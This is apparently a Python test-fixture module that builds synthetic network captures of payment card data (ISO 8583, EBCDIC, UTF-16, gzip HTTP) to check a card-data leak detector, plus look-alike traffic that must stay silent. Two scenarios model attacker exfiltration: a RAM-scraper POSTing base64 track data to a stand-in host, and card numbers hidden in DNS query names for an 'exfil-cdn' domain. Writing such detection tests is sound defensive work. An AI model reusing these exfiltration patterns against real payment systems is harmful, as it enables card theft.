"""Card data in every form (issue 3): ISO 8583 (BCD with TPDU, ASCII), EBCDIC, UTF-16, base64 and
gzip over HTTP, DNS exfiltration, and a capture of look-alikes that must stay silent.

Messages are built byte by byte here, independently of netwatch's parsers, so the scan is checked
against the formats, not against itself. Every card number put in these captures is listed in
CARD_NUMBERS (for the leak test). Randomness is seeded: reruns are byte-identical.
"""

from __future__ import annotations

import base64
import gzip
import random
import struct

from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scenario_lib import MAC_C, MAC_S, Clock, TcpConversation, udp

POS = "10.20.1.15"
POS2 = "10.20.1.20"
RESOLVER = "10.20.0.53"
ACQUIRER = "203.0.113.10"
HOST_GW = "10.20.9.5"  # in-store gateway to the mainframe
BACKOFFICE = "10.20.9.6"
EVIL = "192.0.2.66"

CARD_NUMBERS = [
    "6212345678901234560",  # cards_iso8583_bcd: UnionPay, not Luhn-valid (DE2, DE35)
    "4761739001010010",  # cards_iso8583_bcd: DE55 tag 5A (Visa)
    "5555555555554444",  # cards_iso8583_ascii: DE2 + DE45 track 1
    "3530111333300000",  # cards_ebcdic_track2 (JCB)
    "2223000048400011",  # cards_utf16 (Mastercard 2-series)
    "4012888888881881",  # cards_http_base64_track: track 1
    "30569309025904",  # cards_http_base64_track: track 2 (Diners)
    "6011000990139424",  # cards_http_gzip (Discover)
    "4539148803436467",  # cards_dns_exfil: digits label
    "5105105105105100",  # cards_dns_exfil: hex label
    "371449635398431",  # cards_dns_exfil: split over two labels (Amex)
    "4111111111111111",  # cards_lookalikes: only inside TLS / ESP payload and longer digit runs
]


# -- ISO 8583 building blocks --------------------------------------------------------------------
def _bitmap(fields: list[int]) -> bytes:
    bits = 0
    for f in fields:
        bits |= 1 << (64 - f)
    return bits.to_bytes(8, "big")


def _bcd(digits: str, right_pad: str = "0") -> bytes:
    if len(digits) & 1:
        digits += right_pad
    return bytes.fromhex(digits)


def _bcd_ll(digits: str) -> bytes:
    """LLVAR numeric field, CUP style: BCD length in digits, data left-aligned, padded with 0."""
    return bytes.fromhex(f"{len(digits):02d}") + _bcd(digits)


def _iso_bcd(mti: str, fields: dict[int, bytes]) -> bytes:
    order = sorted(fields)
    return bytes.fromhex(mti) + _bitmap(order) + b"".join(fields[f] for f in order)


def cards_iso8583_bcd() -> list:
    """CUP-style POS purchase: 2-byte length, TPDU, 6-byte header, BCD MTI/fields, DE2, DE35, DE55."""
    clock = Clock()
    pan = "6212345678901234560"  # UnionPay, fails Luhn on purpose: trusted because DE2 says it is a PAN
    track2 = pan + "D" + "2812" + "201" + "0000012345"
    icc = (bytes.fromhex("9f2608") + bytes(range(8)) + bytes.fromhex("5a08") + bytes.fromhex("4761739001010010")
           + bytes.fromhex("5f2403281231") + bytes.fromhex("9f360200a1"))
    req = {
        2: _bcd_ll(pan),
        3: _bcd("000000"),
        4: _bcd("000000002500"),
        11: _bcd("000042"),
        14: _bcd("2812"),
        22: bytes.fromhex("0051"),  # n3 left-padded
        25: _bcd("00"),
        35: bytes.fromhex(f"{len(track2):02d}") + bytes.fromhex(track2 + "0" * (len(track2) & 1)),
        41: b"TERM0042",
        42: b"STORE0042000001",
        49: b"156",
        52: bytes.fromhex("8c3f1a2b4d5e6f70"),
        55: bytes.fromhex(f"{len(icc):04d}") + icc,
        64: bytes.fromhex("0102030405060708"),
    }
    rsp = {
        3: _bcd("000000"),
        4: _bcd("000000002500"),
        11: _bcd("000042"),
        37: b"123456789012",
        39: b"00",
        41: b"TERM0042",
        42: b"STORE0042000001",
        64: bytes.fromhex("0807060504030201"),
    }
    head = bytes.fromhex("6000030000") + bytes.fromhex("603100311301")
    c = TcpConversation(POS, ACQUIRER, 49300, 5000, clock)
    for d, msg in ((0, _iso_bcd("0200", req)), (1, _iso_bcd("0210", rsp))):
        body = head + msg
        c.send(d, struct.pack("!H", len(body)) + body)
    c.close()
    return c.packets


def _llvar(data: bytes) -> bytes:
    return b"%02d" % len(data) + data


def cards_iso8583_ascii() -> list:
    """ASCII ISO 8583: 4-byte ASCII length, ASCII MTI, hex-ASCII bitmap, DE2, DE14, DE45 track 1, DE52."""
    clock = Clock()
    pan = "5555555555554444"
    fields = {
        2: _llvar(pan.encode()),
        3: b"000000",
        4: b"000000001999",
        7: b"1125093000",
        11: b"000123",
        14: b"2612",
        22: b"901",
        41: b"TERM0007",
        45: _llvar(b"B" + pan.encode() + b"^PUBLIC/JOHN Q^2612101" + b"0" * 6),
        49: b"840",
        52: b"8C3F1A2B4D5E6F70",
    }
    order = sorted(fields)
    msg = b"0100" + _bitmap(order).hex().upper().encode() + b"".join(fields[f] for f in order)
    rsp = b"0110" + _bitmap([3, 4, 11, 39, 41]).hex().upper().encode() + b"000000000000001999000123" + b"00TERM0007"
    c = TcpConversation(POS, ACQUIRER, 49301, 8583, clock)
    c.send(0, b"%04d" % len(msg) + msg)
    c.send(1, b"%04d" % len(rsp) + rsp)
    c.close()
    return c.packets


def cards_ebcdic_track2() -> list:
    """Store controller to a mainframe gateway: an EBCDIC (cp500) record with track 2 data."""
    clock = Clock()
    rec = "AUTHREQ TERM0042 ;3530111333300000=28121015432112345678? AMT 000001500 CUR 978".encode("cp500")
    c = TcpConversation(POS2, HOST_GW, 40100, 4000, clock)
    c.send(0, struct.pack("!H", len(rec)) + rec)
    c.send(1, struct.pack("!H", 6) + "ACK 00".encode("cp500"))
    c.close()
    return c.packets


def cards_utf16() -> list:
    """Windows back-office software shipping a UTF-16LE record with a grouped card number."""
    clock = Clock()
    text = '{"terminal":"T42","card":"2223 0000 4840 0011","amount":"12.50"}'
    data = text.encode("utf-16-le")
    c = TcpConversation(POS, BACKOFFICE, 40200, 9200, clock)
    c.send(0, data)
    c.send(1, "OK".encode("utf-16-le"))
    c.close()
    return c.packets


def cards_http_base64_track() -> list:
    """RAM-scraper exfiltration: base64 track 1 + track 2 in an HTTP POST, segments out of order."""
    clock = Clock()
    tracks = (b"%B4012888888881881^CARDHOLDER/TEST^2711101000000000000000?\n"
              b";30569309025904=27111010000012345678?\n")
    body = b"id=POS15&v=2&data=" + base64.b64encode(tracks)
    req = (b"POST /gate.php HTTP/1.1\r\nHost: cdn-update.example\r\nUser-Agent: Mozilla/4.0\r\n"
           b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body)) + body
    c = TcpConversation(POS, EVIL, 50010, 80, clock)
    cut1 = req.index(b"data=") + 30
    c.segments(0, req, [cut1, cut1 + 41], [0, 2, 1])
    c.send(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    c.close()
    return c.packets


def cards_http_gzip() -> list:
    """Chunked, gzip-compressed JSON upload carrying a card number."""
    clock = Clock()
    doc = b'{"orders":[{"id":"A-1001","pan":"6011 0009 9013 9424","total":"42.00"}]}'
    gz = gzip.compress(doc, mtime=0)
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(gz[i : i + 40]), gz[i : i + 40]) for i in range(0, len(gz), 40))
    req = (b"POST /api/v1/sync HTTP/1.1\r\nHost: backoffice.store.example\r\nContent-Type: application/json\r\n"
           b"Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n")
    c = TcpConversation(POS, BACKOFFICE, 50020, 8080, clock)
    c.send(0, req, mss=60)
    c.send(1, b"HTTP/1.1 204 No Content\r\n\r\n")
    c.close()
    return c.packets


def cards_dns_exfil() -> list:
    """Card numbers hidden in DNS query names: a digits label, a hex label, two split labels."""
    clock = Clock()
    names = [
        "4539148803436467.s1.exfil-cdn.example",
        b"5105105105105100".hex() + ".t.exfil-cdn.example",
        "371449.635398431.x.exfil-cdn.example",
        "www.store.example",
    ]
    pkts = []
    for i, name in enumerate(names):
        q = DNS(id=0x5100 + i, rd=1, qd=DNSQR(qname=name))
        r = DNS(id=0x5100 + i, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name))
        pkts.append(udp(POS, RESOLVER, 53100 + i, 53, bytes(q), clock))
        pkts.append(udp(RESOLVER, POS, 53, 53100 + i, bytes(r), clock))
    return pkts


# -- look-alikes ---------------------------------------------------------------------------------
def _luhn_complete(body: str) -> str:
    """`body` plus the check digit that makes it Luhn-valid."""
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return body + str((10 - total % 10) % 10)


def lookalike_numbers(rng: random.Random, n: int = 1200) -> list[str]:
    """Luhn-valid numbers that are not cards: no issuer prefix, or a real prefix at a wrong length."""
    out = []
    no_prefix = ["1", "7", "9", "0", "31", "32", "33", "35"]  # 35 only with a non-JCB 4-digit head
    wrong_len = [("4", (14, 15, 17, 18)), ("51", (14, 15, 17, 18)), ("34", (14, 16, 17)), ("2221", (15, 17, 18))]
    for i in range(n):
        if i % 2:
            head = no_prefix[i % len(no_prefix)]
            if head == "35":
                head = "35" + rng.choice(["00", "10", "27", "90", "99"])
            length = rng.randint(13, 19)
        else:
            head, lens = wrong_len[i % len(wrong_len)]
            length = rng.choice(lens)
        body = head + "".join(rng.choice("0123456789") for _ in range(length - len(head) - 1))
        out.append(_luhn_complete(body))
    return out


def cards_lookalikes() -> list:
    """Everything that must not fire: 1,200 Luhn-valid non-cards, digit runs holding a card inside,
    timestamps, order ids, phone numbers, random binary, and card digits inside TLS and ESP."""
    clock = Clock()
    rng = random.Random(8583)
    pkts = []
    nums = lookalike_numbers(rng)
    body = ("\n".join(nums)).encode()
    c = TcpConversation(POS, BACKOFFICE, 50100, 8080, clock)
    req = b"POST /export HTTP/1.1\r\nHost: backoffice.store.example\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    c.send(0, req)
    c.send(1, b"HTTP/1.1 204 No Content\r\n\r\n")
    c.close()
    pkts += c.packets
    misc = (
        b"ts=1700000000123 ts2=1700000000123456 order=ORD-2023112500001234 ref=00004111111111111111\n"
        b"run=12345411111111111111167890 id=94111111111111111 phone=+4915112345678 tel=+1 415 555 0100\n"
        b"invoice 2023-11-25 0000 0000 0000 0000 iban DE89 3704 0044 0532 0130 00 ean 4006381333931\n"
        b"uuid=5f0c7f6e-8a43-4d1b-9c55-2b4e1f6a9d10 amount=000000001999 stan=000123 rrn=123456789012\n"
    )
    c = TcpConversation(POS, BACKOFFICE, 50101, 9100, clock)
    c.send(0, misc)
    c.send(0, base64.b64encode(bytes(rng.getrandbits(8) for _ in range(600))) + b"\n")
    c.send(0, ("order 1700000000123 qty 12").encode("utf-16-le"))
    c.close()
    pkts += c.packets
    c = TcpConversation(POS2, BACKOFFICE, 50102, 7000, clock)
    c.send(0, b"\x00\x01BIN" + bytes(rng.getrandbits(8) for _ in range(6000)))
    c.close()
    pkts += c.packets
    # card digits inside encrypted payloads: TLS application data and an ESP packet
    c = TcpConversation(POS, ACQUIRER, 50103, 443, clock)
    hello = b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"
    c.send(0, hello)
    c.send(1, b"\x16\x03\x03\x00\x05\x02\x00\x00\x01\x00" + b"\x14\x03\x03\x00\x01\x01")
    inner = b"pan=4111111111111111;4111111111111111=25121010000000000000?"
    c.send(0, b"\x17\x03\x03" + struct.pack("!H", len(inner)) + inner)
    c.close()
    pkts += c.packets
    esp = Ether(src=MAC_C, dst=MAC_S) / IP(src=POS, dst=ACQUIRER, proto=50) / Raw(
        struct.pack("!II", 0x1001, 1) + b"card 4111111111111111 " + bytes(range(32)))
    esp.time = clock()
    pkts.append(esp)
    return pkts


SCENARIOS = {
    "cards_iso8583_bcd": cards_iso8583_bcd,
    "cards_iso8583_ascii": cards_iso8583_ascii,
    "cards_ebcdic_track2": cards_ebcdic_track2,
    "cards_utf16": cards_utf16,
    "cards_http_base64_track": cards_http_base64_track,
    "cards_http_gzip": cards_http_gzip,
    "cards_dns_exfil": cards_dns_exfil,
    "cards_lookalikes": cards_lookalikes,
}
